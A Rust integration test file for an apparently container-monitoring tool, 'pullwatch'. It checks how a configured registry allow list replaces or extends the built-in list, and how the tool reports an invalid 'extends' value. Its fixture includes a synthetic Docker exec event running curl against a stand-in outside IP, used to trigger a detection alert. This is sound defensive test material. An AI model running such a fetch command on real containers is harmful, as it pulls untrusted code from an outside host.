//! A configuration that names its own registries: without `extends`, the list replaces
//! the built-in one (and `nginx` is no longer trusted); with `extends: defaults` it adds
//! to it. Through the real binary, `scan` and `config show`.

mod common;

use assert_cmd::Command;
use common::scan_json;
use serde_json::{json, Value};
use std::path::{Path, PathBuf};

const T0: i64 = 1_795_165_200; // 2026-11-20T09:00:00Z
const NS: i64 = 1_000_000_000;
const CID: &str = "5e1f0a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7";

fn docker(secs: i64, typ: &str, action: &str, id: &str, image: &str) -> Value {
    json!({"Type": typ, "Action": action,
           "Actor": {"ID": id, "Attributes": {"image": image, "name": "web"}},
           "scope": "local", "time": T0 + secs, "timeNano": (T0 + secs) * NS})
}

/// `nginx` pulled, started, and running curl: a chain only if nginx is not trusted.
fn nginx_chain(dir: &Path) -> PathBuf {
    let records = [
        docker(0, "image", "pull", "nginx:1.27", "nginx:1.27"),
        docker(2, "container", "create", CID, "nginx:1.27"),
        docker(3, "container", "start", CID, "nginx:1.27"),
        docker(
            40,
            "container",
            "exec_start: curl -s http://198.51.100.23/x",
            CID,
            "nginx:1.27",
        ),
    ];
    let text: String = records.iter().map(|r| format!("{r}\n")).collect();
    let p = dir.join("events.jsonl");
    std::fs::write(&p, text).expect("write");
    p
}

fn config(dir: &Path, name: &str, yaml: &str) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, yaml).expect("write");
    p
}

fn alerts(cfg: &Path, input: &Path) -> usize {
    let cfg = cfg.to_str().expect("UTF-8 temp path");
    scan_json(&["--config", cfg], &[input]).alerts.len()
}

fn show(cfg: &Path) -> String {
    let out = Command::cargo_bin("pullwatch")
        .expect("binary")
        .args(["config", "show", "--config"])
        .arg(cfg)
        .output()
        .expect("runs");
    assert!(out.status.success());
    String::from_utf8(out.stdout).expect("UTF-8")
}

#[test]
fn extends_defaults_keeps_the_built_in_lists_and_says_so() {
    let d = tempfile::tempdir().expect("temp dir");
    let input = nginx_chain(d.path());
    let list = "image_registry_allow_list: [registry.acme.internal]\n";

    let replaced = config(d.path(), "replace.yaml", list);
    assert_eq!(alerts(&replaced, &input), 1, "docker.io/library is dropped");
    let shown = show(&replaced);
    assert!(
        shown.starts_with("# a list set in the file replaces the built-in one"),
        "{shown}"
    );
    assert!(!shown.contains("docker.io/library"), "{shown}");

    let extended = config(
        d.path(),
        "extend.yaml",
        &format!("extends: defaults\n{list}"),
    );
    assert_eq!(alerts(&extended, &input), 0, "nginx stays trusted");
    let shown = show(&extended);
    assert!(shown.starts_with("# extends: defaults"), "{shown}");
    assert!(shown.contains("docker.io/library"), "{shown}");
    assert!(shown.contains("registry.acme.internal"), "{shown}");
    // What `config show` prints is a configuration that gives the same lists.
    let again = config(d.path(), "shown.yaml", &shown);
    assert_eq!(
        show(&again).lines().skip(1).collect::<Vec<_>>(),
        shown.lines().skip(1).collect::<Vec<_>>()
    );
}

#[test]
fn a_bad_extends_value_is_located() {
    let d = tempfile::tempdir().expect("temp dir");
    let cfg = config(
        d.path(),
        "bad.yaml",
        "time_window: 5m\nextends: everything\n",
    );
    let out = Command::cargo_bin("pullwatch")
        .expect("binary")
        .args(["config", "show", "--config"])
        .arg(&cfg)
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!("{}:2:", cfg.display())),
        "{stderr}"
    );
}
